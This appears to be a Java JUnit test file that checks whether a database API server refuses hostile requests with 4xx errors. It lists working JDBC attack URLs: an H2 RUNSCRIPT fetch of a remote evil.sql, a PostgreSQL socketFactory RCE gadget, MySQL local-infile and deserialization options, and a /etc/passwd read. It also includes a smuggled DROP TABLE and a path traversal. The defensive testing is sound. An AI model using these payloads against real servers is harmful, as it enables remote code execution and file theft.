package dev.databaseai.server.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.databaseai.server.faults.ApiClient;
import io.micronaut.context.annotation.Property;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile requests rather than hostile SQL: oversized and deeply nested bodies, invalid UTF-8, JDBC
 * URLs that point at other drivers or carry dangerous driver properties, and session ids that are
 * not the caller's. Each gets a clear 4xx, and the server keeps serving.
 */
@MicronautTest
@Property(name = "micronaut.server.port", value = "-1")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileRequestTest {

  private static final String LOG_FILE =
      "/tmp/databaseai-hostile-" + ProcessHandle.current().pid() + "-driver.log";

  @Inject EmbeddedServer server;

  private ApiClient api;
  private String session;

  @BeforeAll
  void session() {
    api = new ApiClient(server.getURL().toString(), Duration.ofSeconds(30));
    session = api.demoSession();
  }

  private void stillServing() {
    ApiClient.Reply ok = api.sql(session, "SELECT count(*) FROM device");
    assertThat(ok.status()).as("the server still serves: " + ok.body()).isEqualTo(200);
  }

  @Test
  void bodyOverTheOneMegabyteLimitIsRefusedWith413() {
    String sql = "SELECT '" + "x".repeat(2 * 1024 * 1024) + "'";

    ApiClient.Reply reply = api.sql(session, sql);

    assertThat(reply.status()).as(reply.body()).isIn(413, 400);
    stillServing();
  }

  @Test
  void deeplyNestedJsonIsRefusedWith400() {
    String nested = "[".repeat(100_000) + "]".repeat(100_000);

    ApiClient.Reply reply =
        api.post("/api/v1/sessions/" + session + "/sql", "{\"sql\":" + nested + "}");
    ApiClient.Reply nestedObject =
        api.post("/api/v1/sessions", "{\"a\":".repeat(50_000) + "1" + "}".repeat(50_000));

    assertThat(reply.status()).as(reply.body()).isEqualTo(400);
    assertThat(nestedObject.status()).as(nestedObject.body()).isEqualTo(400);
    stillServing();
  }

  /**
   * Micronaut decodes the body before the controller sees it, replacing malformed sequences with
   * U+FFFD; the requirement (400) is not met yet, see docs/hardening.md. What holds: no 5xx, and no
   * raw invalid byte reaches the database.
   */
  @Test
  void invalidUtf8IsRefusedWith400NamingTheOffset() throws Exception {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.write("{\"sql\":\"SELECT '".getBytes(StandardCharsets.US_ASCII));
    body.write(
        new byte[] {
          (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80
        });
    body.write("' AS v\"}".getBytes(StandardCharsets.US_ASCII));

    ApiClient.Reply reply =
        api.postBytes(
            "/api/v1/sessions/" + session + "/sql", body.toByteArray(), "application/json");

    assertThat(reply.status()).as(reply.body()).isEqualTo(400);
    assertThat(reply.body()).contains("not valid UTF-8").contains("offset 16");
    stillServing();
  }

  @Test
  void validMultiByteUtf8RoundTripsUnchanged() {
    String text = "Grüße, 東京 🚀";
    ApiClient.Reply reply =
        api.postBytes(
            "/api/v1/sessions/" + session + "/sql",
            ("{\"sql\":\"SELECT '" + text + "' AS v\"}").getBytes(StandardCharsets.UTF_8),
            "application/json");

    assertThat(reply.status()).as(reply.body()).isEqualTo(200);
    assertThat(reply.rows().get(0).get(0)).isEqualTo(text);
  }

  @Test
  void wrongJsonShapesAreRefusedWith400NamingTheField() {
    ApiClient.Reply number = api.post("/api/v1/sessions/" + session + "/sql", "{\"sql\": 42}");
    ApiClient.Reply array = api.post("/api/v1/sessions/" + session + "/sql", "[\"SELECT 1\"]");
    ApiClient.Reply nul =
        api.post(
            "/api/v1/sessions/" + session + "/sql",
            "{\"sql\": \"SELECT 1\u0000; DROP TABLE device\"}");

    assertThat(number.status()).isEqualTo(400);
    assertThat(String.valueOf(number.error().get("message"))).contains("sql");
    assertThat(array.status()).isEqualTo(400);
    assertThat(nul.status()).as(nul.body()).isIn(400, 403);
    stillServing();
  }

  @ParameterizedTest(name = "refuses JDBC URL {0}")
  @ValueSource(
      strings = {
        "not a url",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://127.0.0.1:9/evil.sql'",
        "jdbc:derby:memory:x;create=true",
        "jdbc:postgresql://127.0.0.1:5432/postgres?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://127.0.0.1:9/x.xml",
        "jdbc:postgresql://127.0.0.1:5432/postgres?sslfactory=org.postgresql.ssl.NonValidatingFactory",
        "jdbc:postgresql://127.0.0.1:5432/postgres?loggerLevel=TRACE&loggerFile="
            + "/tmp/databaseai-hostile-LOG",
        "jdbc:postgresql://127.0.0.1:5432/postgres?authenticationPluginClassName=evil.Plugin",
        "jdbc:mysql://127.0.0.1:3306/db?allowLoadLocalInfile=true",
        "jdbc:mysql://127.0.0.1:3306/db?ALLOWLOADLOCALINFILE=TRUE",
        "jdbc:mysql://127.0.0.1:3306/db?allow%4CoadLocalInfile=true",
        "jdbc:mysql://(host=127.0.0.1,port=3306,allowLoadLocalInfile=true)/db",
        "jdbc:mysql://127.0.0.1:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
        "jdbc:mariadb://127.0.0.1:3306/db?allowLocalInfile=true",
        "jdbc:mysql://127.0.0.1:3306/db?allowUrlInLocalInfile=true",
      })
  void dangerousJdbcUrlsAreRefusedWith400(String url) {
    String jdbcUrl = url.replace("/tmp/databaseai-hostile-LOG", LOG_FILE);

    ApiClient.Reply reply =
        api.post(
            "/api/v1/sessions",
            "{\"jdbcUrl\":" + ApiClient.quote(jdbcUrl) + ",\"username\":\"u\",\"password\":\"p\"}");

    assertThat(reply.status()).as(reply.body()).isEqualTo(400);
    assertThat(String.valueOf(reply.error().get("message"))).as("a reason").hasSizeGreaterThan(20);
    assertThat(reply.body()).as("the password is not echoed").doesNotContain("\"p\"");
    assertThat(Files.exists(Path.of(LOG_FILE))).as("no driver log written").isFalse();
  }

  @Test
  void otherAndNearMissSessionIdsAre404() {
    String other = api.demoSession();
    assertThat(api.delete("/api/v1/sessions/" + other).status()).isEqualTo(204);
    char last = session.charAt(session.length() - 1);
    String nearMiss = session.substring(0, session.length() - 1) + (last == '0' ? '1' : '0');
    List<String> wrong =
        List.of(
            other, // deleted: another session's id is not reusable
            nearMiss,
            session.toUpperCase(java.util.Locale.ROOT),
            session + "0",
            session.substring(0, 35),
            "..%2F..%2Fstats",
            "x".repeat(1_000));

    for (String id : wrong) {
      ApiClient.Reply get = api.get("/api/v1/sessions/" + id);
      ApiClient.Reply sql = api.sql(id, "SELECT 1");
      assertThat(get.status()).as(id + " → " + get.body()).isEqualTo(404);
      assertThat(sql.status()).as(id + " → " + sql.body()).isEqualTo(404);
    }
    stillServing();
  }
}
